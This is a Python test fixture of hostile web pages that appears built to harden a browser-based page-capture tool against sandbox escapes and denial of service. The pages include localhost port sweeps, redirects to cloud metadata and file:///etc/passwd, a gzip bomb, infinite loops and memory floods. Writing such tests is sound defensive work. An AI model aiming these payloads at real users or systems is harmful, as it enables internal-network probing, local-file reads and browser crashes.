"""Pages that try to get out, to stay for ever, or to break the browser; each is a few lines, served by a ToughServer.

`PAGES` is the table; `cases` are the answers a server needs for it. In a page %T is a list of the trap's `host:port` as
a JavaScript array, %t the first of them, and `each(f)` calls f with every one, whatever f throws.
"""

import base64
import json
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from functools import cache
from urllib.parse import unquote_to_bytes

from tests.hostile.cases import CASES, Case, Pause, Request, Step, response

__all__ = ["MARK", "PAGES", "Page", "cases"]

MARK = "The tide tables of the harbour"  # a heading that every page has
WASM_LOOP = "0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,7,5,1,1,102,0,0,10,9,1,7,0,3,64,12,0,11,11"  # export f: loop
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


@dataclass(frozen=True, slots=True)
class Page:
    """One hostile page and what may become of it."""

    name: str
    body: str
    headers: tuple[str, ...] = ()
    head: str = ""
    talks: bool = False  # it tries the network: run without namespaces too
    may_fail: bool = False  # the browser may have to be given up
    leaves: bool = False  # what is shown may be another document than the one asked for, or nothing
    page_s: float = 5.0  # its time; less where it would take all of it


def script(text: str) -> str:
    return f"<script>{text}</script>"


PAGES = (
    # ---- ways out that are no ordinary requests
    Page(
        "webrtc-stun-and-turn",
        script(
            """each(t => { const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:' + t},
            {username: 'a', credential: 'b',
            urls: ['turn:' + t + '?transport=udp', 'turn:' + t + '?transport=tcp', 'turns:' + t + '?transport=tcp']}]});
            pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o)) })"""
        ),
        talks=True,
    ),
    Page(
        "webrtc-to-a-peer",
        script(
            """(async () => { const a = new RTCPeerConnection(), b = new RTCPeerConnection();
            a.onicecandidate = e => e.candidate && b.addIceCandidate(e.candidate);
            b.onicecandidate = e => e.candidate && a.addIceCandidate(e.candidate);
            a.createDataChannel('x'); await a.setLocalDescription(await a.createOffer());
            await b.setRemoteDescription(a.localDescription); await b.setLocalDescription(await b.createAnswer());
            await a.setRemoteDescription(b.localDescription);
            each(t => { const at = t.lastIndexOf(':'), host = t.slice(0, at).replace(/[\\[\\]]/g, '');
              for (const kind of ['udp', 'tcp']) a.addIceCandidate({sdpMid: '0', candidate:
                `candidate:1 1 ${kind} 2122260223 `
                + `${host} ${t.slice(at + 1)} typ host` + (kind == 'tcp' ? ' tcptype passive' : '')}) }) })()"""
        ),
        talks=True,
    ),
    Page(
        "websocket",
        script(
            "each(t => { new WebSocket('ws://' + t); new WebSocket('wss://' + t); new WebSocketStream('ws://' + t) })"
        ),
        talks=True,
    ),
    Page(
        "webtransport",
        script(
            """each(t => { new WebTransport('https://' + t + '/'); new WebTransport('https://' + t + '/',
            {serverCertificateHashes: [{algorithm: 'sha-256', value: new Uint8Array(32)}]}) })"""
        ),
        talks=True,
    ),
    Page(
        "beacon",
        script(
            """const send = () => each(t => navigator.sendBeacon('http://' + t + '/beacon', 'x')); send();
            for (const name of ['pagehide', 'visibilitychange', 'unload', 'freeze']) addEventListener(name, send)"""
        ),
        talks=True,
    ),
    Page(
        "fetch-keepalive-and-later",
        script(
            """const send = () => each(t => { fetch('http://' + t, {keepalive: true, mode: 'no-cors', method: 'POST'});
            fetchLater('http://' + t, {activateAfter: 0}) }); send(); addEventListener('pagehide', send)"""
        ),
        talks=True,
    ),
    Page(
        "event-source",
        "<p id=said>nothing</p>"
        + script(
            """each(t => new EventSource('http://' + t)); new EventSource('/drip')
            .onmessage = e => said.textContent = e.data"""
        ),
        talks=True,
    ),
    Page(
        "hints",
        "",
        head="%HINTS",
        headers=(
            "Link: <http://%t/>; rel=preconnect, <http://%t/a>; rel=preload; as=image, "
            "<//hint.example/>; rel=dns-prefetch",
            'Alt-Svc: h3="%t"; ma=60, h2="%t"; ma=60',
        ),
        talks=True,
    ),
    Page(
        "reports",
        "<img src='http://forbidden.example/x.png'>" + script("try { eval('1') } catch (e) {} undefinedFunction()"),
        headers=(
            "Content-Security-Policy: img-src 'none'; report-uri http://%t/csp; report-to trap",
            "Content-Security-Policy-Report-Only: default-src 'none'; report-uri http://%t/csp2",
            'Reporting-Endpoints: trap="http://%t/r", default="http://%t/d"',
            'Report-To: {"group":"trap","max_age":9,"endpoints":[{"url":"http://%t/r"}]}',
            'NEL: {"report_to":"trap","max_age":9,"success_fraction":1}',
        ),
        talks=True,
    ),
    Page(
        "speculation-rules",
        "<a href='/plain?next'>next</a>",
        head="""<script type=speculationrules>{"prerender":[{"urls":["/plain?spec"],"eagerness":"immediate"}],
        "prefetch":[{"urls":["http://%t/spec"],"eagerness":"immediate"},{"where":{"href_matches":"/*"},
        "eagerness":"immediate"}]}</script>""",
        headers=('Speculation-Rules: "/rules.json"',),
        talks=True,
    ),
    Page(
        "service-worker",
        script(
            """navigator.serviceWorker.register('/worker-of-the-site?' + encodeURIComponent(JSON.stringify(traps)))
            .then(r => { document.title = 'registered'; return navigator.serviceWorker.ready })
            .then(r => { r.active.postMessage('go'); fetch('/plain?through-the-worker') })
            .catch(e => { document.title = e.message })"""
        ),
        talks=True,
    ),
    Page(
        "workers",
        script(
            """const code = `const traps = ${JSON.stringify(traps)};
            for (const t of traps) { try { importScripts('http://' + t + '/i.js') } catch (e) {}
              fetch('http://' + t, {mode: 'no-cors'}).catch(() => 0); try { new WebSocket('ws://' + t) } catch (e) {}
              const x = new XMLHttpRequest(); try { x.open('GET', 'http://' + t, false); x.send() } catch (e) {} }
            try { new Worker(self.location.href) } catch (e) {}`;
            const url = URL.createObjectURL(new Blob([code], {type: 'text/javascript'}));
            new Worker(url); new SharedWorker(url); new Worker(url, {type: 'module'});
            each(t => new Worker('http://' + t + '/w.js'))"""
        ),
        talks=True,
        page_s=3.0,
    ),
    Page(
        "worklets",
        script(
            """each(t => { CSS.paintWorklet.addModule('http://' + t + '/p.js');
            sharedStorage.worklet.addModule('http://' + t);
            new AudioContext().audioWorklet.addModule('http://' + t + '/a.js') })"""
        ),
        talks=True,
    ),
    Page(
        "services-of-the-browser",
        "<link rel=manifest href='http://%t/m.json'><link rel=search type=application/opensearchdescription+xml "
        "href='http://%t/o.xml'><img attributionsrc='http://%t/as' src=/pixel>"
        "<a id=p ping='http://%t/ping' href='#x'>x</a>"
        + script(
            """p.click(); const all = [() => new webkitSpeechRecognition().start(), () => speechSynthesis.speak(new
            SpeechSynthesisUtterance('hello')), () => navigator.geolocation.getCurrentPosition(() => 0),
            () => Notification.requestPermission(),
            () => navigator.mediaDevices.getUserMedia({audio: true, video: true}),
            () => navigator.mediaDevices.getDisplayMedia(), () => navigator.usb.requestDevice({filters: []}),
            () => navigator.bluetooth.requestDevice({acceptAllDevices: true}), () => navigator.clipboard.readText(),
            () => new PresentationRequest(['http://' + traps[0], 'cast:0F5096E8']).start(),
            () => document.createElement('video').remote.prompt(), () => navigator.getInstalledRelatedApps(),
            () => new PaymentRequest([{supportedMethods: 'http://' + traps[0]}], {total: {label: 'x', amount:
              {currency: 'EUR', value: '1'}}}).show(), () => navigator.credentials.get({identity: {providers:
              [{configURL: 'http://' + traps[0], clientId: 'x'}]}}), () => navigator.credentials.get({publicKey:
              {challenge: new Uint8Array(9), rpId: 'localhost'}}), () => LanguageModel.create(),
            () => Translator.create({sourceLanguage: 'en', targetLanguage: 'fr'}), () => Summarizer.create(),
            () => navigator.registerProtocolHandler('web+x', '/?%s'), () => document.body.requestFullscreen(),
            () => document.body.requestPointerLock(), () => navigator.share({url: '/'}), () => queryLocalFonts(),
            () => navigator.joinAdInterestGroup({owner: location.origin, name: 'x', updateURL: '/u'}, 99),
            () => document.browsingTopics(), () => navigator.requestMIDIAccess(), () => showOpenFilePicker(),
            () => navigator.requestMediaKeySystemAccess('com.widevine.alpha', [{initDataTypes: ['cenc'],
              videoCapabilities: [{contentType: 'video/mp4; codecs="avc1.42E01E"'}]}]),
            () => navigator.wakeLock.request()];
            for (const one of all) { try { const r = one(); r && r.catch && r.catch(() => 0) } catch (e) {} }"""
        ),
        talks=True,
    ),
    Page(
        "media",
        "<video autoplay muted src='http://%t/v'></video><video controls poster='http://%t/p'>"
        "<source src='http://%t/s'>"
        "<track default src='http://%t/t'></video><audio autoplay src='http://%t/a'></audio><object data='http://%t/o'>"
        "</object><embed src='http://%t/e'><svg><image href='http://%t/i'/><use href='http://%t/u#x'/></svg>"
        "<input type=image src='http://%t/n'><body background='http://%t/b'><fencedframe></fencedframe>",
        talks=True,
    ),
    Page(
        "sweep-of-ports-and-names",
        script(
            """for (let port = 1; port < 60; port++) new Image().src = 'http://127.0.0.1:' + port + '/';
            for (const host of ['localhost', 'foo.localhost', '0.0.0.0', '[::ffff:127.0.0.1]', '2130706433', '0x7f.1',
              '127.1', '017700000001', 'router.local', 'wpad', 'metadata.google.internal', '[fe80::1]', '224.0.0.251'])
              { new Image().src = 'http://' + host + ':' + traps[0].split(':').pop() + '/'; fetch('http://' + host) }
            each(t => { new Image().src = 'http://' + t + '/'; fetch('http://' + t, {targetAddressSpace: 'local'}) })"""
        ),
        talks=True,
    ),
    Page(
        "redirects-into-the-house",
        "".join(
            f"<img src='/redirect-to?{there}'><iframe src='/redirect-to?{there}'></iframe>"
            f"<script src='/redirect-to?{there}'></script>"
            for there in ("http://%t/", "http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/latest/")
        ),
        talks=True,
    ),
    Page(
        "redirects-to-schemes",
        "".join(
            f"<iframe src='/redirect-to?{there}'></iframe><img src='/redirect-to?{there}'>"
            for there in ("javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "blob:x", "chrome://version")
        )
        + script("fetch('/redirect-to?file:///etc/passwd').then(r => r.text()).then(t => document.title = t)"),
    ),
    # ---- windows, dialogs, downloads
    Page(
        "popups",
        "<a id=a target=_blank href='http://%t/blank'>a</a><a id=b target=_blank rel=noopener href='/plain?blank'>b</a>"
        + script(
            """each(t => { open('http://' + t); open('http://' + t, '', 'noopener,width=99') }); open('/plain?popup');
            const w = open(''); if (w) { w.location = 'http://' + traps[0]; w.document.write('x') }
            a.click(); b.click();
            for (let i = 0; i < 50; i++) open('about:blank', 'w' + i)"""
        ),
        talks=True,
    ),
    Page(
        "downloads",
        "<a id=a download='x.bin' href='/pixel'>a</a><a id=b download='evil.sh'>b</a>"
        "<iframe src='/attachment'></iframe>"
        "<a id=c download href='http://%t/'>c</a>"
        + script("b.href = URL.createObjectURL(new Blob(['x'])); for (const e of [a, b, c]) { e.click(); e.click() }"),
        talks=True,
    ),
    Page("download-by-leaving", script("location = '/attachment'")),
    Page("dialogs", script("alert(1); document.title = 'said ' + confirm('sure?') + prompt('name?'); alert(2)")),
    Page("dialogs-for-ever", script("setInterval(() => alert('again'), 1)")),
    Page(
        "beforeunload",
        script(
            """addEventListener('beforeunload', e => { e.preventDefault(); e.returnValue = 'stay' });
            document.body.click(); setTimeout(() => location = '/plain?left', 100)"""
        ),
        leaves=True,
    ),
    Page("print", script("print(); addEventListener('afterprint', () => print()); setInterval(print, 50)")),
    # ---- without end
    Page(
        "timers",
        script("function f() { setTimeout(f, 0); setTimeout(f, 0) } f(); setInterval(f, 1)"),
        may_fail=True,
        page_s=3.0,
    ),
    Page("loop-while-it-loads", script("while (true) ;"), may_fail=True, page_s=3.0),
    Page(
        "loop-after-it-loaded",
        script("onload = () => setTimeout(() => { while (true) ; }, 50)"),
        may_fail=True,
        page_s=3.0,
    ),
    Page("loop-of-promises", script("(async () => { while (true) await 0 })()"), may_fail=True, page_s=3.0),
    Page(
        "loop-on-scroll",
        "<hr style='margin:5000px'>" + script("addEventListener('scroll', () => { while (true) ; })"),
        may_fail=True,
        page_s=3.0,
    ),
    Page(
        "loop-in-wasm",
        script(
            f"new WebAssembly.Instance(new WebAssembly.Module(new Uint8Array([{WASM_LOOP}]))).exports.f()",
        ),
        may_fail=True,
        page_s=3.0,
    ),
    Page("loops-in-workers", script("for (let i = 0; i < 8; i++) new Worker('data:text/javascript,while(true);')")),
    Page(
        "iframes-10000",
        script("for (let i = 0; i < 10000; i++) document.body.append(document.createElement('iframe'))"),
        may_fail=True,
        page_s=3.0,
    ),
    Page("iframes-in-iframes", "<iframe src='/iframes-in-iframes?{n}'></iframe><iframe src='/nest?1'></iframe>"),
    Page(
        "canvas-2-gb",
        script(
            """window.kept = []; for (let i = 0; i < 4; i++) { const c = document.createElement('canvas');
            c.width = c.height = 16384; const x = c.getContext('2d'); x.fillRect(0, 0, 16384, 16384);
            kept.push(c, x.getImageData(0, 0, 16384, 8192)); document.body.append(c) }"""
        ),
        may_fail=True,
    ),
    Page(
        "memory",
        script(
            """window.kept = []; setInterval(() => { for (let i = 0; i < 8; i++)
            kept.push(new Uint8Array(64 << 20).fill(1)) }, 20)"""
        ),
        may_fail=True,
    ),
    Page(
        "memory-of-strings",
        script("window.kept = []; setInterval(() => kept.push(new Array(1e7).fill('x' + kept.length)), 5)"),
        may_fail=True,
        page_s=3.0,
    ),
    Page("location-for-ever", script("location = '?' + Math.random()"), leaves=True, may_fail=True),
    Page("reload-for-ever", script("setTimeout(() => location.reload(), 1)"), leaves=True, may_fail=True),
    Page("refresh-for-ever", "", head="<meta http-equiv=refresh content=0>", leaves=True, may_fail=True),
    Page("refresh-header-for-ever", "", headers=("Refresh: 0",), leaves=True, may_fail=True),
    Page("history-for-ever", script("let n = 0; setInterval(() => history.pushState(0, '', '?' + n++), 1)")),
    Page("hashes-for-ever", script("let n = 0; setInterval(() => location.hash = n++, 1)")),
    Page(
        "fetch-storm",
        script("for (let i = 0; i < 20000; i++) fetch('/pixel?' + i).catch(() => 0)"),
        may_fail=True,
        page_s=3.0,
    ),
    Page("images-1000", "".join(f"<img src='/pixel?{n}'>" for n in range(1000))),
    Page("imports-of-style", "", head="<link rel=stylesheet href='/sheet?0'>"),
    Page(
        "dripping",
        "<img src='/drip?1'><iframe src='/drip?2'></iframe>"
        + script("fetch('/drip?3').then(async r => { for await (const part of r.body) ; })"),
        page_s=3.0,
    ),
    Page(
        "synchronous-requests",
        script(
            "for (let i = 0; i < 3; i++) { const x = new XMLHttpRequest(); x.open('GET',"
            "'/drip?' + i, false); try { x.send() } catch (e) {} }"
        ),
        page_s=3.0,
    ),
    Page(
        "bombs",
        "<img src='/bomb?1'><script src='/bomb?2'></script><link rel=stylesheet href='/bomb?3'>"
        + script("fetch('/bomb?4').then(r => r.text()).then(t => document.title = t.length)"),
    ),
    Page(
        "console-storm",
        script("setInterval(() => { for (let i = 0; i < 2000; i++) console.log('x'.repeat(999), i) }, 1)"),
    ),
    Page("debugger", script("setInterval(() => { debugger; throw new Error('x'.repeat(9999)) }, 1)")),
    # ---- size and shape
    Page(
        "elements-300000",
        script(
            "const e = document.createElement('section'); e.innerHTML = '<i>x</i>'.repeat(300000);"
            "document.body.append(e)"
        ),
        may_fail=True,
    ),
    Page(
        "deep",
        script(
            "let e = document.body; for (let i = 0; i < 20000; i++) e = e.appendChild(document.createElement('div'))"
        ),
        may_fail=True,
    ),
    Page("tall", "<div style='height:30000000px;background:linear-gradient(red,blue)'></div>", page_s=3.0),
    Page("wide", "<div style='width:900000px;height:900000px'>x</div>", page_s=3.0),
    Page(
        "scrolls-for-ever",
        script(
            "const more = () => { for (let i = 0; i < 20; i++) document.body.append(document.createElement('hr'), "
            "'line ' + i) }; more(); more(); addEventListener('scroll', more)"
        ),
        page_s=3.0,
    ),
    Page("text-of-60-mb", script("document.body.append('x '.repeat(30e6))"), may_fail=True),
    Page("title-of-20-mb", script("document.title = 'x'.repeat(20e6)"), may_fail=True),
    Page("cookies", script("for (let i = 0; i < 5000; i++) document.cookie = i + '=' + 'x'.repeat(3000)")),
    # ---- what the capture itself stands on
    Page(
        "tampering",
        script(
            """const bad = () => { throw new Error('no') }; for (const f of ['scrollTo', 'scrollBy', 'setTimeout',
            'requestAnimationFrame', 'XMLSerializer', 'Promise', 'Array', 'JSON', 'Math', 'getComputedStyle'])
              { try { Object.defineProperty(window, f, {get: bad, configurable: false}) } catch (e) {} }
            Object.prototype.toJSON = bad; Array.prototype.map = bad; String.prototype.replace = bad;
            for (const [o, p] of [[Element.prototype, 'outerHTML'], [Document.prototype, 'title'], [Element.prototype,
              'scrollHeight'], [Document.prototype, 'documentElement'], [Document.prototype, 'querySelectorAll']])
              Object.defineProperty(o, p, {get: bad})"""
        ),
    ),
    Page(
        "tampering-with-a-loop",
        script(
            "Object.defineProperty(document, 'title', {get() { while (true) ; }});"
            "Object.defineProperty(Element.prototype, 'outerHTML', {get() { while (true) ; }})"
        ),
        may_fail=True,
    ),
    Page("without-a-root", script("onload = () => document.documentElement.remove()"), leaves=True),
    Page("written-over", script("onload = () => { document.open(); document.write('<p>gone</p>') }"), leaves=True),
    Page("lone-surrogates", script("document.title = '\\ud800'; document.body.append('\\udfff', '\\0')")),
    Page(
        "policy-of-the-page",
        "<img src=/pixel>" + script("document.title = 'ran'"),
        headers=(
            "Content-Security-Policy: default-src 'none'; sandbox",
            "X-Frame-Options: DENY",
            "Permissions-Policy: fullscreen=()",
            "Cross-Origin-Embedder-Policy: require-corp",
            "Cross-Origin-Opener-Policy: same-origin",
            "Document-Policy: sync-xhr=?0",
            "Clear-Site-Data: *",
            "Require-Document-Policy: x",
        ),
        page_s=3.0,
    ),
    Page(
        "passwords",
        "<img src='/basic'><iframe src='/basic'></iframe><iframe src='/digest'></iframe>"
        + script(
            "fetch('/basic', {credentials: 'include'}); fetch('http://u:p@' + location.host + '/pixel').catch(() => 0)"
        ),
    ),
    Page(
        "schemes",
        "".join(
            f"<iframe src='{url}'></iframe><img src='{url}'>"
            for url in (
                "file:///etc/passwd",
                "view-source:http://%t/",
                "chrome://settings",
                "chrome-extension://x/y",
                "ftp://%t/",
                "javascript:alert(1)",
                "intent://x",
                "mailto:a@b.c",
                "filesystem:http://%t/temporary/x",
                "about:srcdoc",
                "devtools://devtools/bundled/inspector.html",
                "data:text/html,<script>fetch(`http://%t`);new WebSocket(`ws://%t`)</script>",
            )
        )
        + script("""const f = document.createElement('iframe'); document.body.append(f);
        f.src = URL.createObjectURL(new Blob(
        ["<script>fetch('http://%t'); new WebSocket('ws://%t')</scr" + "ipt>"], {type: 'text/html'}))"""),
        talks=True,
    ),
    Page(
        "another-site-inside",
        "<iframe src='http://%other/talk'></iframe><iframe sandbox=allow-scripts src='/talk'></iframe>",
        talks=True,
    ),
    # ---- away
    Page("away-to-another-page", script("setTimeout(() => location = '/plain?elsewhere', 300)"), leaves=True),
    Page("away-to-another-site", script("setTimeout(() => location = 'http://%other/plain', 300)"), leaves=True),
    Page("away-into-the-house", script("setTimeout(() => location = 'http://%t/', 300)"), leaves=True, talks=True),
    Page("away-to-a-file", script("location = 'file:///etc/passwd'"), leaves=True),
    Page(
        "away-to-a-crash",
        script("location = 'chrome://crash'; setTimeout(() => location = 'chrome://kill', 50)"),
        leaves=True,
    ),
    Page(
        "away-to-data",
        script("location = 'data:text/html,<h1>x'; open('data:text/html,x'); location = 'blob:x'"),
        leaves=True,
    ),
    Page("away-when-asked", script("addEventListener('scroll', () => location = '/plain?scrolled')"), leaves=True),
    Page(
        "a-form-that-sends-itself",
        "<form id=f method=post action='/posted'><input name=a value=b></form><form id=g method=post target=_blank "
        "action='http://%t/posted'></form>" + script("g.submit(); f.submit()"),
        leaves=True,
        talks=True,
    ),
    Page("closes-itself", script("close(); window.open('', '_self').close()"), leaves=True, may_fail=True),
)


# ------------------------------------------------------------------ answers
def cases(traps: Callable[[], Iterable[str]], other: Callable[[], str]) -> dict[str, Case]:
    """The answers of a server: every page under its name, and what they ask for.

    `traps` gives the `host:port` they aim at, `other` the `host:port` of a second site that may be asked.
    """
    found = dict(_BESIDE)
    for page in PAGES:
        found[page.name] = _answer_of(page, traps, other)
    found["talk"] = _answer_of(_TALK, traps, other)
    found["nest"] = _answer_of(
        Page("nest", "<iframe src='/nest?{n}'></iframe><iframe src='/nest?{n}0'></iframe>"), traps, other
    )
    return found


_TALK = Page(
    "talk",
    script(
        """each(t => { fetch('http://' + t, {mode: 'no-cors'}).catch(() => 0); new WebSocket('ws://' + t);
        new Image().src = 'http://' + t; navigator.sendBeacon('http://' + t);
        new RTCPeerConnection({iceServers: [{urls: 'stun:' + t}]}).createOffer() })"""
    ),
)
_HINTS = "".join(
    f"<link rel={rel} href='http://%t/{rel}' as=script>"
    for rel in (
        "preconnect",
        "dns-prefetch",
        "prefetch",
        "prerender",
        "modulepreload",
        "preload",
        "icon",
        "stylesheet",
        "next",
    )
)


def _answer_of(page: Page, traps: Callable[[], Iterable[str]], other: Callable[[], str]) -> Case:
    def answer(request: Request) -> Iterator[Step]:
        aims = list(traps())

        def filled(text: str) -> str:
            text = text.replace("%HINTS", _HINTS).replace("%other", other()).replace("{n}", f"{request.visit}")
            return text.replace("%T", json.dumps(aims)).replace("%t", aims[0])

        yield response(
            filled(_whole(page)).encode(),
            *(filled(each).encode("latin-1") for each in page.headers),
            b"Cache-Control: no-store",
        )

    return answer


def _whole(page: Page) -> str:
    prelude = script(
        "const traps = %T; const each = f => traps.forEach(t => { try { const r = f(t); r && r.catch && r.catch(()"
        " => 0) } catch (e) {} })"
    )
    return (
        f"<!doctype html><html lang=en><head><meta charset=utf-8><title>{page.name}</title>"
        f"{prelude}{page.head}</head><body>"
        f"<article><h1>{MARK}</h1>"
        f"<p>High water comes twice a day, and the harbour master writes down both.</p></article>"
        f"{page.body}</body></html>"
    )


def _redirect_to(request: Request) -> Iterator[Step]:
    yield response(b"", b"Location: " + unquote_to_bytes(request.query), status=b"302 Found")


def _service_worker(request: Request) -> Iterator[Step]:
    code = (
        f"const traps = {unquote_to_bytes(request.query).decode()}; const talk = () => {{ for (const t of traps) {{"
        "fetch('http://' + t, {mode: 'no-cors'}).catch(() => 0); try { new WebSocket('ws://' + t) } catch (e) {}"
        "try { importScripts('http://' + t) } catch (e) {} } };"
        "oninstall = e => { talk(); skipWaiting(); e.waitUntil(caches.open('x').then(c => c.add('/pixel'))) };"
        "onactivate = e => e.waitUntil(clients.claim()); onmessage = talk;"
        "onfetch = e => { talk(); e.respondWith(new Response('made up by the worker')) };"
        "registration.pushManager.subscribe({userVisibleOnly: true}).catch(() => 0)"
    )
    yield response(code.encode(), kind=b"text/javascript")


def _sheet(request: Request) -> Iterator[Step]:
    """A sheet that wants itself, and one more, for ever."""
    number = int(request.query)
    yield response(b"@import '/sheet?%d'; @import '/sheet?0'; b { color: red }" % (number + 1), kind=b"text/css")


def _drip(_request: Request) -> Iterator[Step]:
    yield response(length=None, kind=b"text/event-stream")
    while True:
        yield b"data: drop\n\n"
        yield Pause(0.05)


def _drip_head() -> bytes:
    return response(f"<title>drips</title><h1>{MARK}</h1>".encode(), length=None)


def _bomb(_request: Request) -> Iterator[Step]:
    yield response(_bomb_bytes(), b"Content-Encoding: gzip", kind=b"text/plain")


@cache
def _bomb_bytes() -> bytes:
    """64 MB of zeros in 64 kB."""
    packer = zlib.compressobj(6, wbits=31)
    return b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(64)), packer.flush()])


def _plain(_request: Request) -> Iterator[Step]:
    yield response(_whole(Page("plain", "<img src=/pixel>")).replace("%T", "[]").encode())


_MUCH = "<h1>much</h1><img src='/drip?1'>" + script("for (let i = 0; i < 3; i++) fetch('/large?' + i)")
_BESIDE: dict[str, Case] = {
    **{name: CASES[name] for name in ("404",)},
    "redirect-to": _redirect_to,
    "worker-of-the-site": _service_worker,
    "sheet": _sheet,
    "drip": _drip,
    "drips-as-a-page": lambda _: iter([_drip_head(), *[b"<p>drop</p>", Pause(0.1)] * 100]),
    "bomb": _bomb,
    "plain": _plain,
    "pixel": lambda _: iter([response(PIXEL, kind=b"image/png")]),
    "attachment": lambda _: iter(
        [response(b"x", b"Content-Disposition: attachment; filename=x", kind=b"application/zip")]
    ),
    "posted": lambda _: iter([response(b"<h1>posted</h1>")]),
    "basic": lambda _: iter([response(b"who?", b'WWW-Authenticate: Basic realm="x"', status=b"401 Unauthorized")]),
    "digest": lambda _: iter(
        [response(b"who?", b'WWW-Authenticate: Digest realm="x", nonce="n"', status=b"401 Unauthorized")]
    ),
    "rules.json": lambda _: iter(
        [response(b'{"prefetch":[{"urls":["/plain?rules"]}]}', kind=b"application/speculationrules+json")]
    ),
    "much": lambda _: iter([response(_MUCH.encode())]),
    "large": lambda _: iter([Pause(0.5), response(bytes(1 << 20), kind=b"application/octet-stream")]),
}
